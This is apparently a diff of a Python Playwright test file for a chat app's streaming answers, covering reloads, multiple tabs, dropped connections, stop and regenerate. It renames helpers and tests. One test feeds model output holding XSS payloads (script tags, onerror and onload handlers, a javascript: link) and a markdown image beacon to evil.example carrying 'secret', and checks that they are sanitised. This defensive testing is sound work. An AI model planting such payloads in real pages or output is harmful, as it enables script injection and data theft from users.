@@ -1,4 +1,4 @@
-"""An answer reaches whoever looks: after a reload, in a second tab, over a broken connection."""
+"""Following an answer: after a reload, in a second tab, over a broken connection."""
 
 from collections.abc import Iterator
 from typing import Any
@@ -6,16 +6,24 @@ from typing import Any
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.browser.conftest import SignUp, Visit, ask, conversation_of, said, settled, stored
-from tests.browser.wire import Wire
+from tests.browser.conftest import (
+    SignUp,
+    Visit,
+    ask,
+    conversation_of,
+    shown_texts,
+    stored_texts,
+    wait_until_idle,
+)
+from tests.browser.network import Network
 from tests.gemini import Block, Gemini, Hold, Pause, Text
 from tests.live import LiveServer, Member
 
 STORY: list[Text | Hold] = [Text("Once "), Text("upon "), Hold(), Text("a "), Text("time")]
 
 
-def begin(page: Page, gemini: Gemini, question: str = "Tell me") -> Any:
-    """Ask; the answer holds after "Once upon "."""
+def start_answer(page: Page, gemini: Gemini, question: str = "Tell me") -> Any:
+    """Ask a question whose answer pauses after "Once upon "; return the answer's element."""
     gemini.on(question, STORY)
     page.goto("/")
     ask(page, question)
@@ -23,21 +31,21 @@ def begin(page: Page, gemini: Gemini, question: str = "Tell me") -> Any:
     return page.locator("article.live .prose")
 
 
-def test_a_reload_in_the_middle_neither_loses_nor_doubles(
+def test_reloads_during_an_answer_neither_lose_nor_repeat_text(
     visit: Visit, alice: Member, gemini: Gemini
 ) -> None:
     page = visit(alice)
-    live = begin(page, gemini)
+    live = start_answer(page, gemini)
     for _ in range(3):
         page.reload()
         expect(live).to_have_text("Once upon ")
     gemini.release()
-    settled(page)
-    assert said(page) == ["Tell me", "Once upon a time"]
-    assert stored(alice, conversation_of(page)) == ["Tell me", "Once upon a time"]
+    wait_until_idle(page)
+    assert shown_texts(page) == ["Tell me", "Once upon a time"]
+    assert stored_texts(alice, conversation_of(page)) == ["Tell me", "Once upon a time"]
 
 
-def test_reloads_at_any_moment_show_a_beginning_of_the_answer(
+def test_reloads_at_any_moment_show_a_prefix_of_the_answer(
     visit: Visit, alice: Member, gemini: Gemini
 ) -> None:
     words = [f"word{n} " for n in range(120)]
@@ -49,43 +57,43 @@ def test_reloads_at_any_moment_show_a_beginning_of_the_answer(
     shown = ""
     for _ in range(5):
         page.reload()
-        # at once: what the server rendered, then what the stream replays
+        # first the text that the server rendered, then the text that the stream replays
         text = page.locator("article.assistant .prose").text_content() or ""
         assert "".join(words).startswith(text.rstrip())
         assert len(text) >= len(shown)
         expect(page.locator("article.assistant .prose")).to_contain_text(text.strip())
         shown = text
-    settled(page)
-    assert said(page)[1] == "".join(words).strip()
+    wait_until_idle(page)
+    assert shown_texts(page)[1] == "".join(words).strip()
 
 
 def test_a_second_tab_follows_the_same_answer(visit: Visit, alice: Member, gemini: Gemini) -> None:
     page = visit(alice)
-    live = begin(page, gemini)
+    live = start_answer(page, gemini)
     second = page.context.new_page()
     second.goto(page.url)
     expect(second.locator("article.live .prose")).to_have_text("Once upon ")
     gemini.release()
     for tab in (page, second):
-        settled(tab)
-        assert said(tab) == ["Tell me", "Once upon a time"]
+        wait_until_idle(tab)
+        assert shown_texts(tab) == ["Tell me", "Once upon a time"]
     expect(live).to_have_count(0)
     assert gemini.calls_for("Tell me") == 1
 
 
-def test_stop_keeps_what_was_written_in_every_tab(visit: Visit, alice: Member, gemini: Gemini) -> None:
+def test_stop_keeps_the_written_text_in_every_tab(visit: Visit, alice: Member, gemini: Gemini) -> None:
     page = visit(alice)
-    begin(page, gemini)
+    start_answer(page, gemini)
     second = page.context.new_page()
     second.goto(page.url)
     expect(second.locator("article.live .prose")).to_have_text("Once upon ")
     second.get_by_role("button", name="Stop").click()
     for tab in (page, second):
-        settled(tab)
-        assert said(tab) == ["Tell me", "Once upon"]
+        wait_until_idle(tab)
+        assert shown_texts(tab) == ["Tell me", "Once upon"]
         expect(tab.locator(".ending")).to_have_text("You stopped this answer.")
         expect(tab.get_by_role("button", name="Retry")).to_be_visible()
-    assert stored(alice, conversation_of(page)) == ["Tell me", "Once upon "]
+    assert stored_texts(alice, conversation_of(page)) == ["Tell me", "Once upon "]
 
 
 def test_regenerate_writes_a_new_answer_in_place(visit: Visit, alice: Member, gemini: Gemini) -> None:
@@ -95,15 +103,17 @@ def test_regenerate_writes_a_new_answer_in_place(visit: Visit, alice: Member, ge
     ask(page, "Tell me")
     page.get_by_role("button", name="Regenerate").click()
     expect(page.locator("article.live .prose")).to_have_text("sec")
-    assert said(page) == ["Tell me", "sec"]
+    assert shown_texts(page) == ["Tell me", "sec"]
     page.reload()
     expect(page.locator("article.live .prose")).to_have_text("sec")
     gemini.release()
-    settled(page)
-    assert said(page) == ["Tell me", "second"]
+    wait_until_idle(page)
+    assert shown_texts(page) == ["Tell me", "second"]
 
 
-def test_an_answer_that_failed_can_be_tried_again(visit: Visit, alice: Member, gemini: Gemini) -> None:
+def test_a_declined_answer_shows_its_reason_and_no_retry_button(
+    visit: Visit, alice: Member, gemini: Gemini
+) -> None:
     gemini.on("Tell me", [Text("Once "), Block("SAFETY")], [Text("Once "), Hold(), Text("more")])
     page = visit(alice)
     page.goto("/")
@@ -111,58 +121,58 @@ def test_an_answer_that_failed_can_be_tried_again(visit: Visit, alice: Member, g
     expect(page.locator(".ending")).to_have_text("The model declined to answer this.")
     expect(page.get_by_role("button", name="Retry")).to_have_count(0)
     expect(page.locator("#announcer")).to_have_text("The answer has ended.")
-    assert said(page) == ["Tell me", "Once"]
+    assert shown_texts(page) == ["Tell me", "Once"]
 
 
 @pytest.fixture
-def wire(server: LiveServer) -> Iterator[Wire]:
-    wire = Wire(server.url)
-    yield wire
-    wire.close()
+def network(server: LiveServer) -> Iterator[Network]:
+    network = Network(server.url)
+    yield network
+    network.close()
 
 
-def test_a_broken_connection_is_taken_up_where_it_broke(
-    visit: Visit, alice: Member, gemini: Gemini, wire: Wire
+def test_a_broken_connection_resumes_where_it_broke(
+    visit: Visit, alice: Member, gemini: Gemini, network: Network
 ) -> None:
-    page = visit(alice, url=wire.url, expect_faults=["ERR_"])
-    live = begin(page, gemini)
+    page = visit(alice, url=network.url, expect_faults=["ERR_"])
+    live = start_answer(page, gemini)
     for _ in range(2):
-        wire.cut()
+        network.cut()
         expect(page.locator("#connection")).to_have_text("Reconnecting…")
         expect(live).to_have_text("Once upon ")
-        wire.mend()
+        network.restore()
         expect(page.locator("#connection")).to_be_empty()
-    wire.cut()
-    gemini.release()  # the answer ends while nobody can read it
+    network.cut()
+    gemini.release()  # the answer ends while the page is disconnected
     expect(page.locator("#connection")).to_have_text("Reconnecting…")
-    wire.mend()
-    settled(page)
+    network.restore()
+    wait_until_idle(page)
     expect(page.locator("#connection")).to_be_empty()
-    assert said(page) == ["Tell me", "Once upon a time"]
+    assert shown_texts(page) == ["Tell me", "Once upon a time"]
 
 
-def test_a_tab_that_nobody_looks_at_gives_its_connection_back_and_takes_it_again(
+def test_a_hidden_tab_closes_its_stream_and_resumes_when_visible(
     visit: Visit, alice: Member, gemini: Gemini
 ) -> None:
     page = visit(alice)
     page.clock.install()
-    live = begin(page, gemini)
+    live = start_answer(page, gemini)
     opened: list[str] = []
     page.on("request", lambda request: opened.append(request.url) if "/events" in request.url else None)
-    _show(page, hidden=True)
+    _set_hidden(page, hidden=True)
     page.clock.fast_forward(11_000)
     gemini.release()
     page.wait_for_timeout(700)
-    expect(live).to_have_text("Once upon ")  # nothing came: nobody listens
+    expect(live).to_have_text("Once upon ")  # nothing arrives: the stream is closed
     assert opened == []
-    _show(page, hidden=False)
-    settled(page)
-    assert said(page) == ["Tell me", "Once upon a time"]
-    (again,) = opened
-    assert again.endswith("?view=html&after=3")  # and not from the beginning
+    _set_hidden(page, hidden=False)
+    wait_until_idle(page)
+    assert shown_texts(page) == ["Tell me", "Once upon a time"]
+    (resumed,) = opened
+    assert resumed.endswith("?view=html&after=3")  # not from the beginning
 
 
-def _show(page: Page, *, hidden: bool) -> None:
+def _set_hidden(page: Page, *, hidden: bool) -> None:
     page.evaluate(
         """(hidden) => {
             Object.defineProperty(document, "hidden", {configurable: true, get: () => hidden});
@@ -172,29 +182,29 @@ def _show(page: Page, *, hidden: bool) -> None:
     )
 
 
-def test_who_is_signed_out_while_reading_is_told(
+def test_a_reader_who_is_signed_out_is_notified(
     visit: Visit, server: LiveServer, gemini: Gemini, sign_up: SignUp
 ) -> None:
     dave = sign_up(server, "dave")
     page = visit(dave, expect_faults=["401"])
-    live = begin(page, gemini)
+    live = start_answer(page, gemini)
     page.context.clear_cookies(name="sessionid")
     gemini.release()
     expect(page.locator("#notice")).to_contain_text("You are signed out.")
     expect(live).to_have_text("Once upon a time")
 
 
-def test_a_conversation_that_is_deleted_while_one_reads_is_told(
-    visit: Visit, alice: Member, gemini: Gemini
-) -> None:
+def test_a_reader_of_a_deleted_conversation_is_notified(visit: Visit, alice: Member, gemini: Gemini) -> None:
     page = visit(alice, expect_faults=["404"])
-    begin(page, gemini)
+    start_answer(page, gemini)
     gone = alice.http.delete(f"/api/v1/conversations/{conversation_of(page)}", headers=alice.headers())
     assert gone.status_code == 204
     expect(page.locator("#notice")).to_have_text("This conversation is no longer there.")
 
 
-def test_the_view_follows_the_words_until_one_scrolls_up(visit: Visit, alice: Member, gemini: Gemini) -> None:
+def test_the_view_follows_the_text_until_the_reader_scrolls_up(
+    visit: Visit, alice: Member, gemini: Gemini
+) -> None:
     lines = [Text(f"line {n}\n\n") for n in range(60)]
     gemini.on("long", [*lines, Hold(), *lines, Hold()])
     page = visit(alice, viewport={"width": 800, "height": 600})
@@ -209,12 +219,12 @@ def test_the_view_follows_the_words_until_one_scrolls_up(visit: Visit, alice: Me
     page.wait_for_timeout(200)
     top = view.evaluate("(view) => view.scrollTop")
     gemini.release()
-    settled(page)
+    wait_until_idle(page)
     assert view.evaluate(gap) > 1000
     assert abs(view.evaluate("(view) => view.scrollTop") - top) <= 1
 
 
-def test_nothing_that_a_model_writes_acts(visit: Visit, alice: Member, gemini: Gemini) -> None:
+def test_hostile_model_output_has_no_effect(visit: Visit, alice: Member, gemini: Gemini) -> None:
     hostile = """<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>
 
 ![beacon](https://evil.example/?q=secret) [link](javascript:alert(1))
@@ -228,16 +238,17 @@ x
     page = visit(alice)
     page.goto("/")
     ask(page, hostile)
-    settled(page)
+    wait_until_idle(page)
     expect(page.locator("article.assistant")).to_have_count(1)
     page.reload()
     assert page.locator("#messages").locator("img, script, style, iframe, svg[onload]").count() == 0
 
 
-def test_six_tabs_read_at_once(visit: Visit, alice: Member, gemini: Gemini) -> None:
-    """A browser has six connections a server: the one of an ask is given back when its run is known."""
+def test_six_tabs_follow_one_answer_at_the_same_time(visit: Visit, alice: Member, gemini: Gemini) -> None:
+    # Browsers open at most six connections to a server. The page closes that of its question once the
+    # run is known.
     page = visit(alice)
-    begin(page, gemini)
+    start_answer(page, gemini)
     tabs = [page]
     for _ in range(5):
         tab = page.context.new_page()
@@ -246,5 +257,5 @@ def test_six_tabs_read_at_once(visit: Visit, alice: Member, gemini: Gemini) -> N
         tabs.append(tab)
     gemini.release()
     for tab in tabs:
-        settled(tab)
-        assert said(tab) == ["Tell me", "Once upon a time"]
+        wait_until_idle(tab)
+        assert shown_texts(tab) == ["Tell me", "Once upon a time"]
